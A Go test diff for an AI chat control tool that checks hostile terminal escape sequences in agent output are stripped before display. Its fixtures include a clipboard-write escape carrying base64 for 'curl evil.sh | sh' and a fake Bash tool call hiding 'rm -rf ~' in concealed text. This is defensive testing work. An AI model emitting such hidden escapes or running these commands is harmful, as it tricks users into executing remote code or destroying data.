@@ -373,3 +373,72 @@ func TestParseInterspersed(t *testing.T) {
 
 // waitABit yields while a test polls for output from another goroutine.
 func waitABit() { time.Sleep(2 * time.Millisecond) }
+
+// TestAttackRemotectlEscapes: hostile agent output (an OSC 52 clipboard
+// write, a title change, text hidden with ESC[8m, C1 CSI colours, a
+// carriage return that overwrites a line, escapes in a tool call and an
+// error) reaches the terminal as plain text; --raw passes it through.
+func TestAttackRemotectlEscapes(t *testing.T) {
+	fake := clienttest.New(t)
+	user := client.New("").User()
+	fake.AddChat(api.Chat{ID: "abcdef012345", Title: "evil\x1b]0;owned\x07 title", Owner: user, Provider: "claude"},
+		api.Event{Type: api.EventUser, Text: "\x1b[1mhello"},
+		api.Event{Type: api.EventAssistantText, MessageID: "m1", Text: "copy\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 this\n"},
+		api.Event{Type: api.EventAssistantText, MessageID: "m2", Text: "\x1b]0;pwned title\x1b\\safe \x1b[8mhidden\x1b[0m done\n"},
+		api.Event{Type: api.EventAssistantText, MessageID: "m3", Text: "\u009b31mred\u009b0m\tand\r fake prompt $ \x07\x00\x7f\u0085end\n"},
+		api.Event{Type: api.EventThinking, Text: "think\x1bP+q544e\x1b\\ing\x1b(0\n"},
+		api.Event{Type: api.EventToolUseStart, ID: "t1", Name: "Bash\x1b]2;x\x07", Input: json.RawMessage(`{"command":"ls \u001b[8m; rm -rf ~\u001b[0m"}`)},
+		api.Event{Type: api.EventError, Message: "bad\x1b[41m thing"},
+		api.Event{Type: api.EventComplete})
+
+	got := runCtl(context.Background(), fake, "", "events", "abcdef012345")
+	if got.code != 0 {
+		t.Fatalf("events: %+v", got)
+	}
+	const wantOut = "> hello\n" +
+		"copy this\n" +
+		"safe hidden done\n" +
+		"red\tand fake prompt $ end\n"
+	const wantErr = "thinking\n" +
+		"▸ Bash ls ; rm -rf ~\n" +
+		"error: bad thing\n"
+	if got.stdout != wantOut {
+		t.Errorf("stdout = %q, want %q", got.stdout, wantOut)
+	}
+	if got.stderr != wantErr {
+		t.Errorf("stderr = %q, want %q", got.stderr, wantErr)
+	}
+
+	list := runCtl(context.Background(), fake, "", "chat", "list")
+	if !strings.Contains(list.stdout, "evil title") || strings.Contains(list.stdout, "\x1b") {
+		t.Errorf("chat list title: %q", list.stdout)
+	}
+
+	raw := runCtl(context.Background(), fake, "", "events", "abcdef012345", "--raw")
+	for _, seq := range []string{"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "\x1b[8mhidden", "\u009b31m"} {
+		if !strings.Contains(raw.stdout, seq) {
+			t.Errorf("--raw lost %q: %q", seq, raw.stdout)
+		}
+	}
+}
+
+func TestStripControls(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"plain\ttext\n", "plain\ttext\n"},
+		{"ünïcødé ✓", "ünïcødé ✓"},
+		{"a\x1b[38;5;196mb", "ab"},
+		{"a\x1b]8;;https://evil\x1b\\link\x1b]8;;\x1b\\b", "alinkb"},
+		{"a\x1b]52;c;unterminated", "a"},
+		{"a\x1b]0;t\x1b[31mb", "ab"}, // ESC aborts the string and starts its own sequence
+		{"a\x1b7b\x1b8c\x1bc", "abc"},
+		{"a\u009d0;t\u009cb", "ab"},
+		{"a\u0090q\u009cb\u0098x\u009cc\u009e\u009c\u009f\u009cd", "abcd"},
+		{"a\xff\x9bb", "ab"}, // invalid UTF-8, raw C1 bytes
+		{"tail\x1b", "tail"},
+		{"a\x1b[", "a"},
+	} {
+		if got := stripControls(tt.in); got != tt.want {
+			t.Errorf("stripControls(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
